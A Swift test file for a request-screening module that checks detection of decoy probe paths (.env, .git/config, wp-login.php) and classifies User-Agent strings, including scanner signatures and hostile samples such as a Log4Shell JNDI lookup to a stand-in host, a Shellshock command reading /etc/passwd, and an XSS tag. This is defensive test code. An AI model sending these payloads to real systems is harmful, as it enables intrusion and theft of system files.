import Guard
import Testing

@Suite("Decoys and programs")
struct DecoyTests {
    @Test(
        "What only break-ins look for is a decoy, however it is spelled",
        arguments: [
            "/wp-login.php", "/WP-Login.php", "//wp-login.php", "/wp-login.php/", "/wp%2Dlogin.php", "/.env", "/.ENV",
            "/.env.production", "/admin", "/admin/", "/admin/users", "/phpmyadmin", "/phpMyAdmin/index.php",
            "/.git/config", "/.git/HEAD", "/%2egit/config", "/.git", "/actuator/env", "/cgi-bin/luci", "/server-status",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info",
        ]
    )
    func decoys(path: String) { #expect(Decoys.contains(path)) }

    @Test(
        "What people ask for is none",
        arguments: [
            "/", "", "/index.html", "/favicon.ico", "/robots.txt", "/.well-known/jwks.json", "/api/v1/user/me",
            "/api/v1/admin", "/health/live", "/metrics", "/openapi.yaml", "/administration", "/.environment", "/ws",
            "/env", "/gitconfig", "/%", "/%zz", "/\u{1F4A9}",
        ]
    )
    func others(path: String) { #expect(!Decoys.contains(path)) }

    @Test(
        "Attack tools that say so are known, and people's programs are not taken for them",
        arguments: [
            ("sqlmap/1.7.2#stable (https://sqlmap.org)", UserAgent.attackTool),
            ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", .attackTool),
            ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", .attackTool),
            ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", .attackTool),
            ("gobuster/3.6", .attackTool), ("Fuzz Faster U Fool v2.1.0", .attackTool), ("WPScan v3.8.24", .attackTool),
            ("masscan/1.3", .attackTool), ("Mozilla/5.0 zgrab/0.x", .attackTool),
            ("${jndi:ldap://evil.test/a}", .hostile), ("() { :; }; /bin/cat /etc/passwd", .hostile),
            ("<script>alert(1)</script>", .hostile), ("curl/8.5.0", .ordinary), ("Wget/1.21", .ordinary),
            ("python-requests/2.31.0", .ordinary), ("Python-urllib/3.11", .ordinary), ("okhttp/4.12.0", .ordinary),
            ("Go-http-client/2.0", .ordinary), ("PostmanRuntime/7.36.0", .ordinary), ("", .ordinary), (nil, .ordinary),
            ("TradePulse/1.0 (iPhone; iOS 18.2; Scale/3.00)", .ordinary),
            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/131.0.0.0 Safari/537.36", .ordinary),
            ("Dalvik/2.1.0 (Linux; U; Android 14)", .ordinary), ("CFNetwork/1568 Darwin/24.2.0", .ordinary),
        ] as [(String?, UserAgent)]
    )
    func agents(text: String?, expected: UserAgent) { #expect(UserAgent(text) == expected) }
}
